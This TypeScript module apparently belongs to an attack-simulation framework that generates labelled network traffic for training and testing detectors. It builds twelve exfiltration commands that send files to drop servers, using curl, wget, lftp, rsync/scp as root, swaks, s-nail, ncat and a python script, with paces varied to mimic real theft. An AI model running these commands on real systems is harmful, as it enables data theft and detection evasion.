import { setTimeout as sleep } from 'node:timers/promises'
import { between, during, pause } from '../scene.ts'
import type { Attack, AttackScene } from '../scene.ts'
import { takeLoot } from './exfiltration-servers.ts'
import type { Drop, DropPoint } from './exfiltration-servers.ts'
import { python, runUntilEnd, withLoot } from './rented-programs.ts'

/** One way to send data away. */
interface Theft {
  readonly name: string
  readonly tool: string
  readonly corpora: Attack['corpora']
  /**
   * `fast`: one big file, 40 to 80 MB, 0.5 to 1 MB/s. `slow`: small ones at 20 to 100 kB/s with pauses. `bursts`: middling ones as fast as
   * the line goes.
   */
  readonly pace: 'fast' | 'slow' | 'bursts'
  readonly drop: Drop
  readonly send: (loot: Loot, to: DropPoint) => { readonly command: readonly string[]; readonly input?: string }
}

interface Loot {
  readonly scene: AttackScene
  readonly file: string
  readonly turn: number
  readonly octetsPerSecond: number
}

const THEFTS: readonly Theft[] = [
  {
    name: 'curl-https-put-fast', tool: 'curl', corpora: ['train'], pace: 'fast', drop: 'web-tls',
    send: ({ file, octetsPerSecond }, { url }) => ({
      command: ['curl', '-s', '-k', '-o', '/dev/null', '--limit-rate', String(octetsPerSecond), '-T', file, `${url}/`],
    }),
  },
  {
    name: 'curl-http-form-slow', tool: 'curl', corpora: ['train'], pace: 'slow', drop: 'web',
    send: ({ file, octetsPerSecond }, { url }) => ({
      command: ['curl', '-s', '-o', '/dev/null', '--limit-rate', String(octetsPerSecond), '-F', `file=@${file}`, `${url}/upload`],
    }),
  },
  {
    name: 'curl-https-bursts', tool: 'curl', corpora: ['train'], pace: 'bursts', drop: 'web-tls',
    send: ({ file }, { url }) => ({ command: ['curl', '-s', '-k', '-o', '/dev/null', '-T', file, `${url}/`] }),
  },
  { name: 'lftp-ftp-fast', tool: 'lftp', corpora: ['train'], pace: 'fast', drop: 'ftp', send: lftp },
  { name: 'lftp-ftp-slow', tool: 'lftp', corpora: ['train'], pace: 'slow', drop: 'ftp', send: lftp },
  {
    name: 'swaks-mail-bursts', tool: 'swaks', corpora: ['train'], pace: 'bursts', drop: 'mail',
    send: ({ file, turn }, { address, port }) => ({
      command: ['swaks', '--silent', '2', '--server', `${address}:${port}`, '--helo', 'desk.example', '--from', 'a@desk.example',
        '--to', 'b@drop.example', '--header', `Subject: part ${turn}`, '--attach', `@${file}`],
    }),
  },
  {
    name: 'wget-post-bursts', tool: 'wget-post-file', corpora: ['test'], pace: 'bursts', drop: 'web',
    send: ({ file }, { url }) => ({
      command: ['wget', '-q', '-t', '1', '-T', '20', '-O', '/dev/null', `--post-file=${file}`, `${url}/in`],
    }),
  },
  {
    name: 'python-https-fast', tool: 'python-put', corpora: ['test'], pace: 'fast', drop: 'web-tls',
    send: ({ file, octetsPerSecond, scene }, { address, port }) => ({
      command: python('exfiltrate.py', 'https', address, port, file, octetsPerSecond, between(scene.random, 1, 1_000_000)),
    }),
  },
  {
    name: 'python-raw-slow', tool: 'python-raw-tcp', corpora: ['test'], pace: 'slow', drop: 'sink',
    send: ({ file, octetsPerSecond, scene }, { address, port }) => ({
      command: python('exfiltrate.py', 'raw', address, port, file, octetsPerSecond, between(scene.random, 1, 1_000_000)),
    }),
  },
  {
    name: 'rsync-ssh-fast', tool: 'rsync', corpora: ['test'], pace: 'fast', drop: 'ssh',
    send: ({ file, turn, octetsPerSecond }, { address, port, ssh, folder }) => ({
      command: ['rsync', '--inplace', `--bwlimit=${Math.round(octetsPerSecond / 1_024)}`, '-e', ['ssh', '-p', port, ...ssh].join(' '), file,
        `root@${address}:${folder}/part-${turn}`],
    }),
  },
  {
    name: 'scp-slow', tool: 'scp', corpora: ['test'], pace: 'slow', drop: 'ssh',
    send: ({ file, turn, octetsPerSecond }, { address, port, ssh, folder }) => ({
      command: ['scp', '-q', '-P', String(port), '-l', String(Math.round(octetsPerSecond * 8 / 1_000)), ...ssh, file,
        `root@${address}:${folder}/part-${turn}`],
    }),
  },
  {
    name: 's-nail-mail-bursts', tool: 's-nail', corpora: ['test'], pace: 'bursts', drop: 'mail',
    send: ({ file, turn }, { address, port }) => ({
      command: ['s-nail', '-:/', '-S', 'v15-compat', '-S', 'DEAD=/dev/null', '-S', `mta=smtp://${address}:${port}`, '-S', 'smtp-auth=none',
        '-S', 'from=a@desk.example', '-s', `part ${turn}`, '-a', file, 'b@drop.example'],
      input: 'as agreed\n',
    }),
  },
  {
    name: 'ncat-tls-bursts', tool: 'ncat-send', corpora: ['test'], pace: 'bursts', drop: 'sink-tls',
    send: ({ file }, { address, port }) => ({ command: ['bash', '-c', `ncat --ssl --send-only ${address} ${port} < ${file}`] }),
  },
]

function lftp({ file, turn, octetsPerSecond }: Loot, { address, port }: DropPoint): { command: readonly string[] } {
  const script = `set ftp:ssl-allow no; set net:max-retries 1; set net:timeout 20; set net:limit-total-rate 0:${octetsPerSecond}; `
    + `put ${file} -o part-${turn}.zip; bye`
  return { command: ['lftp', '-u', 'backup,backup', '-p', String(port), '-e', script, `ftp://${address}`] }
}

interface Pace {
  readonly octetsPerSecond: number
  /** Of one file. */
  readonly octets: readonly [number, number]
  readonly pauseMs: readonly [number, number]
}

/** Draws a pace that a scene of any length can show. */
function drawPace({ random, endAtMs }: AttackScene, pace: Theft['pace']): Pace {
  const seconds = Math.max(10, (endAtMs - Date.now()) / 1_000)
  if (pace === 'fast') {
    const octets = Math.min(between(random, 40_000_000, 80_000_000), 450_000 * seconds)
    return { octetsPerSecond: Math.round(octets / (0.7 * seconds)), octets: [octets, octets], pauseMs: [1_000, 5_000] }
  }
  if (pace === 'bursts') {
    return { octetsPerSecond: 0, octets: [300_000, between(random, 800_000, 4_000_000)], pauseMs: [1_000, between(random, 4_000, 20_000)] }
  }
  const octetsPerSecond = between(random, 20_000, 100_000)
  const long = octetsPerSecond * Math.min(between(random, 5, 40), seconds / 4)
  return { octetsPerSecond, octets: [Math.round(long / 3), Math.round(long)], pauseMs: [500, between(random, 3_000, 20_000)] }
}

const SECONDS = { fast: 120, slow: 420, bursts: 240 } as const

function attackOf({ name, tool, corpora, pace, drop, send }: Theft): Attack {
  return {
    name, tool, corpora, seconds: SECONDS[pace], category: 'exfiltration', place: 'inside', isAlone: false,
    play: (scene) => takeLoot(scene, drop, (point) => {
      const { octetsPerSecond, octets, pauseMs } = drawPace(scene, pace)
      const rate = octetsPerSecond === 0 ? 'as fast as it goes' : `${Math.round(octetsPerSecond / 1_000)} kB/s`
      const words = `${name}, files up to ${Math.round(octets[1] / 1_000)} kB, ${rate}, port ${point.port}`
      const truth = { role: 'entity', address: scene.actor.address, peers: [point.address], category: 'exfiltration', tool: words } as const
      return during(scene, truth, async () => {
        const isOnce = pace === 'fast'
        let [turn, said, isOver] = [0, '', false]
        while (!isOver) {
          turn += 1
          said = await withLoot(scene, between(scene.random, ...octets), async (file) => {
            const { output } = await runUntilEnd(scene, scene.actor, send({ scene, file, turn, octetsPerSecond }, point))
            return output
          })
          isOver = isOnce || !await pause(scene, between(scene.random, ...pauseMs))
        }
        // The far end hears of the last connection's end a round trip later.
        await sleep(500)
        const got = point.got().octets
        if (got < (pace === 'fast' ? 0.6 * octets[1] : 250_000)) throw new Error(`only ${got} octets arrived: ${said.slice(-600)}`)
      })
    }),
  }
}

/** Data sent to a rented server. */
export const EXFILTRATION: readonly Attack[] = THEFTS.map(attackOf)
